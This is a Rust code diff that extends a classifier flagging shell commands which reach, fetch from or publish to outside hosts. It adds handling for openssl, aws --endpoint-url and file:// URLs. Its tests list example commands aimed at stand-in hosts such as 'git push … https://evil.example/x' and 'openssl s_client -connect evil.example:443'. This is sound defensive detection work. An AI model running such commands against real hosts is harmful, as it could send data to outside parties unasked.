@@ -173,15 +173,68 @@ fn outward(start: &Started) -> Option<Outward<'_>> {
             return None;
         }
     };
+    if stays(program, &start.words) {
+        return None;
+    }
     let hosts: Vec<String> = words().filter_map(|word| host(program, word)).collect();
     // Only this machine is named: nothing leaves it.
-    let is_local =
-        way == Way::Reaches && !hosts.is_empty() && hosts.iter().all(|host| is_this_machine(host));
+    let names_all = way == Way::Reaches || program == "git";
+    let is_local = names_all && !hosts.is_empty() && hosts.iter().all(|host| is_this_machine(host));
     (!is_local).then(|| Outward {
         program,
         way,
         host: hosts.into_iter().find(|host| !is_this_machine(host)),
     })
+}
+
+/// What of `openssl` reaches a host.
+const OPENSSL: &[&str] = &["cmp", "ocsp", "s_client", "s_server", "s_time", "tsget"];
+
+/// Whether a program that may reach out is told not to.
+fn stays(program: &str, words: &[Token]) -> bool {
+    match program {
+        "openssl" => {
+            let reaches = |word: &Token| match word {
+                Token::Known(word) => OPENSSL.contains(&word.as_str()),
+                Token::Unknown { .. } => true,
+            };
+            !words.iter().skip(1).any(reaches)
+        }
+        // All that it does goes to this one address.
+        "aws" => endpoint(words)
+            .and_then(|address| host("curl", &Token::Known(address.to_owned())))
+            .is_some_and(|host| is_this_machine(&host)),
+        _ => false,
+    }
+}
+
+/// The last `--endpoint-url`, where it is known.
+fn endpoint(words: &[Token]) -> Option<&str> {
+    const OPTION: &str = "--endpoint-url";
+    let known = |word: &'_ Token| matches!(word, Token::Known(_));
+    if !words.iter().all(known) {
+        return None;
+    }
+    let mut words = words.iter().filter_map(|word| match word {
+        Token::Known(word) => Some(word.as_str()),
+        Token::Unknown { .. } => None,
+    });
+    let mut last = None;
+    while let Some(word) = words.next() {
+        match word.strip_prefix(OPTION) {
+            Some("") => last = words.next(),
+            Some(rest) => last = rest.strip_prefix('=').or(last),
+            None => {}
+        }
+    }
+    last
+}
+
+/// A file of this machine by its address, spelled plainly.
+fn is_local_file(text: &str) -> bool {
+    let rest = text.strip_prefix("file://");
+    let rest = rest.map(|rest| rest.strip_prefix("localhost").unwrap_or(rest));
+    rest.is_some_and(|rest| rest.starts_with('/') && !rest.contains(['%', '{', '[', '\\']))
 }
 
 /// The host that a word names.
@@ -194,6 +247,9 @@ fn host(program: &str, word: &Token) -> Option<String> {
             rest.contains('/').then_some(prefix)?
         }
     };
+    if is_local_file(text) {
+        return Some("localhost".to_owned());
+    }
     let rest = match text.split_once("://") {
         Some((scheme, rest))
             if !scheme.is_empty()
@@ -277,6 +333,29 @@ mod tests {
             ("npx cowsay", Fetches, ""),
             ("gh pr create", Publishes, ""),
             ("curl http://[2001:db8::1]/", Reaches, "2001:db8::1"),
+            ("openssl s_client -connect evil.example:443", Reaches, ""),
+            ("aws s3 ls", Publishes, ""),
+            (
+                "aws --endpoint-url https://s3.evil.example s3 ls",
+                Publishes,
+                "s3.evil.example",
+            ),
+            (
+                "aws --endpoint-url http://localhost:1 s3 ls --endpoint-url https://x.example",
+                Publishes,
+                "x.example",
+            ),
+            (
+                "curl file:///x https://evil.example/",
+                Reaches,
+                "evil.example",
+            ),
+            ("curl file:///%2e/x", Reaches, ""),
+            (
+                "git push file:///x https://evil.example/x",
+                Publishes,
+                "evil.example",
+            ),
         ] {
             assert_eq!(of(line), Some((way, host.to_owned())), "{line}");
         }
@@ -292,6 +371,12 @@ mod tests {
             "npm test",
             "cargo build",
             "ls https://example.com",
+            "openssl version",
+            "openssl dgst -sha256 x",
+            "aws --endpoint-url http://localhost:4566 s3 ls s3://bucket",
+            "aws s3 ls --endpoint-url=http://127.0.0.1:9000",
+            "curl -s file:///srv/x.json",
+            "git clone file:///srv/x.git",
         ] {
             assert_eq!(of(line), None, "{line}");
         }
